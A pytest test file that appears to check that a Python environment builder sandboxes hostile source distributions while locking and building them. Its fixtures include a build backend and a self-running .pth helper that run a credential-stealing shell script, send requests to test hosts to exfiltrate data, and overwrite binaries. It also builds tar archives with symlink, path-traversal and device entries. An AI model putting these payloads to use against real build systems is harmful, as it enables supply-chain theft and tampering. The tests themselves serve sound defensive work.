"""Sdists that attack the host which builds them: by their own code, by that of what their build needs, by what they hold.

Whatever runs of them tries all that an install script tries (`test_scripts.STEAL`, whose control is there), when the
profile is locked and when it is built. What it gets becomes the name of a package that its build asks for, so that
nothing can be locked then, and a file of its wheel.
"""

from __future__ import annotations

import hashlib
import io
import shutil
import stat
import tarfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from solven_env.errors import BuildError, SolvenError
from solven_env.packages import store
from solven_env.packages.ecosystems.python import LOCK, Python, locked, pip_compile, sdists, virtual_environment
from tests.hostile.packages.test_packages import (  # noqa: F401 (fixtures)
    SECRET,
    SITE,
    TOKEN,
    VERSION,
    build_with,
    uncached,
    victim,
)
from tests.hostile.packages.test_scripts import STEAL, exports, names, service  # noqa: F401 (fixtures)
from tests.packages.registry import basic, serve
from tests.packages.sources import BACKEND, sdist

if TYPE_CHECKING:
    from collections.abc import Callable

    from solven_env.packages.making import Builder

pytestmark = pytest.mark.attack("packages")

# What `who` gets is added to the file GOT. It leaves a mark in RAN, too, so that a test sees that it ran at all.
THIEF = """
import os, subprocess, urllib.request
GOT, RAN = "/build/got", "/build/ran-"
def rob(who):
    if os.path.exists(RAN + who):
        return
    open(RAN + who, "w").close()
    subprocess.run(["sh", "-c", {steal!r}], cwd="/")
    for place in {places!r}:
        try:
            urllib.request.urlopen("http://" + place + "/stolen", timeout=2)
            open(GOT, "a").write(place + "\\n")
        except OSError:
            pass
    for path in {altered!r}:
        try:
            with open(path, "r+b") as file:
                file.write(b"ALTERED")
            open(GOT, "a").write("altered " + path + "\\n")
        except OSError:
            pass
def got():
    return open(GOT).read().splitlines() if os.path.exists(GOT) else []
def ran():
    return sorted(name for name in os.listdir("/build") if name.startswith("ran-"))
"""
# The backend of the sdist, in its own tree: it robs in each hook.
EVIL = (
    BACKEND
    + b"""
import thief
honest_requires, honest_metadata, honest_wheel = get_requires_for_build_wheel, metadata, build_wheel
def get_requires_for_build_wheel(config_settings=None):
    thief.rob("requires")
    return honest_requires() + ["got-" + "".join(c if c.isalnum() else "-" for c in line) + "x" for line in thief.got()]
def metadata():
    thief.rob("metadata")
    return honest_metadata()
def build_wheel(directory, config_settings=None, metadata_directory=None):
    thief.rob("wheel")
    with open("solven_got.py", "w") as file:
        file.write(repr((thief.got(), thief.ran())))
    return honest_wheel(directory)
"""
)
HELPER = "import thief; thief.rob('helper')\n"


def thief(given: dict[str, str]) -> bytes:
    altered = ["/run/solven-env/sdist.zip", "/run/solven-env/build_hooks.py", "/run/solven-env/bin/uv", "/usr/bin/env"]
    steal = exports({**given, "PLACES": ""}) + STEAL
    return THIEF.format(steal=steal, places=given["PLACES"].split(), altered=altered).encode()


def contents(directory: Path) -> dict[str, bytes]:
    """The digest of each file beneath a directory."""
    files = (path for path in directory.rglob("*") if not path.is_symlink() and path.is_file())
    return {str(path): hashlib.sha256(path.read_bytes()).digest() for path in files}


def test_what_builds_runs_in_walls_when_it_is_locked_and_when_it_is_built(
    build_with: Callable[..., Builder],  # noqa: F811
    victim: Path,  # noqa: F811
    directory: Path,
    service: str,  # noqa: F811
) -> None:
    (directory / "storage/threads/t1").mkdir(parents=True)
    (directory / "storage/threads/t1/file").write_text("of a thread")
    with serve(basic("ada", TOKEN)) as registry:
        builder = build_with(registry)
        shutil.copytree(builder.host.environ["HOME"], directory / "home")
        given = names(victim, builder.host.cache, registry, service, "/build/got")
        # the interpreter's own files lie in /root, perhaps, and hold every word
        own = " ".join(f"{Path.home()}/{name}" for name in (".netrc", ".config"))
        given["SEARCHED"] += f" $HOME /run/solven-env/config /etc /tmp /var /home {own} /proc/1/root/etc"
        robbing = thief(given)
        # the build requirement runs by itself, in every interpreter that has it (.pth), and when it is imported
        helper = {"thief.py": robbing, "solven_helper.py": HELPER.encode(), "solven_helper.pth": HELPER.encode()}
        registry.add_wheel("solven_helper", "1.0", helper)
        registry.add_wheel("pip", "26.0", {"pip.py": b""})
        evil = sdist("solven_evil", "1.0", static=("solven-helper",), backend="evil", here=True)
        registry.add_sdist("solven_evil", "1.0", {**evil, "evil.py": EVIL, "setup.py": HELPER.encode()})
        registry.add_sdist(
            "solven_good",
            "1.0",
            sdist("solven_good", "1.0", static=(), backend="good", here=True) | {"good.py": BACKEND},
        )
        good = Python(VERSION, ("solven-good",), ("solven-good",))
        text = pip_compile.resolve(good, b"", builder).text
        virtual_environment.build(good, text, builder)
        before = contents(builder.host.cache)
        both = Python(VERSION, ("solven-good", "solven-evil"), ("solven-good", "solven-evil"))
        lock = pip_compile.resolve(both, b"", builder).text  # had it got anything, its build would ask for it by name
        (section,) = [each for each in locked(lock, LOCK).builds if each.name == "solven-evil"]
        assert [pin.name for pin in section.pins] == ["solven-helper"]
        assert not Path("/build").exists()
        made = virtual_environment.build(both, lock, builder)
        got, ran = eval((made.tree / SITE / "solven_got.py").read_text())
        assert got == []
        assert ran == ["ran-helper", "ran-requires", "ran-wheel"]
        assert [path for path in registry.seen if "stolen" in path] == []
        after = contents(builder.host.cache)
        changed = [path for path, digest in before.items() if "/scratch/" not in path and after.get(path) != digest]
        assert changed == []
        assert store.is_whole(made)
    assert not Path("/build").exists()
    assert victim.read_bytes() == SECRET and stat.S_IMODE(victim.stat().st_mode) == 0o600


def archive(fill: Callable[[tarfile.TarFile, Callable[..., None]], None]) -> bytes:
    """An sdist of solven_evil 1.0 with more in it."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz", compresslevel=1) as made:

        def add(path: str, content: bytes = b"", **about: object) -> None:
            entry = tarfile.TarInfo(path)
            entry.size = len(content)
            for name, value in about.items():
                setattr(entry, name, value)
            made.addfile(entry, io.BytesIO(content))

        files = sdist("solven_evil", "1.0", static=(), backend="evil", here=True) | {"evil.py": BACKEND}
        for path, content in {**files, "PKG-INFO": b"Name: solven_evil\nVersion: 1.0\n"}.items():
            add(f"solven_evil-1.0/{path}", content)
        fill(made, add)
    return data.getvalue()


@pytest.mark.parametrize(
    "kind", ["link", "link to a directory", "hard link", "up", "absolute", "behind a link", "pipe", "device", "large"]
)
def test_an_sdist_leaves_nothing_but_files_of_its_own(
    build_with: Callable[..., Builder],  # noqa: F811
    victim: Path,  # noqa: F811
    directory: Path,
    monkeypatch: pytest.MonkeyPatch,
    kind: str,
) -> None:
    top = "solven_evil-1.0"

    def fill(_: tarfile.TarFile, add: Callable[..., None]) -> None:
        if kind in ("link", "hard link"):
            add(f"{top}/evil.txt", type=tarfile.SYMTYPE if kind == "link" else tarfile.LNKTYPE, linkname=str(victim))
        elif kind == "link to a directory":
            add(f"{top}/evil", type=tarfile.SYMTYPE, linkname="/run/solven-env/config")
        elif kind == "up":
            add(f"{top}/../../../../../../../begun-to-build")
            add("../../../../../../../../evil", b"ESCAPED")
        elif kind == "absolute":
            add(str(directory / "evil"), b"ESCAPED")
            add("/begun-to-build")
        elif kind == "behind a link":
            add(f"{top}/evil", type=tarfile.SYMTYPE, linkname="/")
            add(f"{top}/evil/begun-to-build")
        elif kind == "pipe":
            add(f"{top}/evil", type=tarfile.FIFOTYPE)
        elif kind == "device":
            add(f"{top}/evil", type=tarfile.BLKTYPE, devmajor=8, devminor=0)
        else:
            add(f"{top}/evil", bytes(9 << 20))

    monkeypatch.setattr(sdists, "_LARGEST", 8 << 20)
    with serve(basic("ada", TOKEN)) as registry:
        builder = build_with(registry)
        registry.add_wheel("pip", "26.0", {"pip.py": b""})
        registry.add_sdist("solven_evil", "1.0", {}, archive(fill))
        wanted = Python(VERSION, ("solven-evil",), ("solven-evil",))
        refused = ""
        try:
            text = pip_compile.resolve(wanted, b"", builder).text
            virtual_environment.build(wanted, text, builder)
        except SolvenError as error:
            refused = str(error)
    kept = [*(builder.host.cache / "sdists").glob("*/*.zip")]
    # refused, or what is no file of its own was left out (tar's rules, PEP 706)
    assert bool(refused) != bool(kept), refused
    assert kept == [] or {"up": True, "absolute": True, "pipe": True, "device": True}.get(kind), kind
    for path in (*kept, *(builder.host.cache / "wheels").glob("solven-evil-*/*.whl")):
        assert SECRET not in path.read_bytes() and b"ESCAPED" not in path.read_bytes()
    assert not (directory / "evil").exists() and not Path("/evil").exists() and not Path("/begun-to-build").exists()
    assert victim.read_bytes() == SECRET


def test_a_mark_in_an_sdist_is_no_digest(build_with: Callable[..., Builder]) -> None:  # noqa: F811
    """An index gives other bytes than the lock has, and names in them what says that uv held them to their digests."""
    marks = ("/begun-to-build", "../begun-to-build", "../../../../../../../../begun-to-build", "begun-to-build")

    def fill(_: tarfile.TarFile, add: Callable[..., None]) -> None:
        for mark in marks:
            add(mark)
        add("solven_evil-1.0/root", type=tarfile.SYMTYPE, linkname="/")
        add("solven_evil-1.0/root/begun-to-build")

    wanted = Python(VERSION, ("solven-evil",), ("solven-evil",))
    with serve(basic("ada", TOKEN)) as registry:
        builder = build_with(registry)
        registry.add_wheel("pip", "26.0", {"pip.py": b""})
        registry.add_sdist("solven_evil", "1.0", {}, archive(lambda *_: None))
        lock = pip_compile.resolve(wanted, b"", builder).text
        shutil.rmtree(builder.host.cache / "sdists")
        registry.pages.pop("/simple/solven-evil/")
        registry.add_sdist("solven_evil", "1.0", {}, archive(fill))
        with pytest.raises(BuildError):
            virtual_environment.build(wanted, lock, uncached(builder))
    assert not list((builder.host.cache / "sdists").glob("*/*.zip"))


@pytest.mark.parametrize(
    ("left", "said"),
    [
        ("os.symlink({victim!r}, {wheel!r})", "(?i)symbolic link"),
        ("os.mkfifo({wheel!r})", "something else than a wheel"),
        ("open({wheel!r}, 'w').close(); open({wheel!r} + '2', 'w').close()", "left 2 files instead of one wheel"),
        (
            "shutil.rmtree('/build/wheel'); os.symlink('/etc', '/build/wheel')",
            "something that is no directory stands here",
        ),
    ],
)
def test_what_is_left_in_the_place_of_a_wheel_is_not_followed(
    build_with: Callable[..., Builder],  # noqa: F811
    victim: Path,  # noqa: F811
    left: str,
    said: str,
) -> None:
    wheel = "/build/wheel/solven_evil-1.0-py3-none-any.whl"
    code = f"\nimport os, shutil\ndef build_wheel(directory, *_):\n    {left.format(victim=str(victim), wheel=wheel)}\n"
    wanted = Python(VERSION, ("solven-evil",), ("solven-evil",))
    with serve(basic("ada", TOKEN)) as registry:
        builder = build_with(registry)
        registry.add_wheel("pip", "26.0", {"pip.py": b""})
        files = sdist("solven_evil", "1.0", static=(), backend="evil", here=True)
        registry.add_sdist("solven_evil", "1.0", {**files, "evil.py": BACKEND + code.encode()})
        lock = pip_compile.resolve(wanted, b"", builder).text
        with pytest.raises(SolvenError, match=said) as caught:
            virtual_environment.build(wanted, lock, builder)
    assert "only its owner may read" not in str(caught.value)
    assert not list((builder.host.cache / "wheels").glob("solven-evil-*/*.whl"))
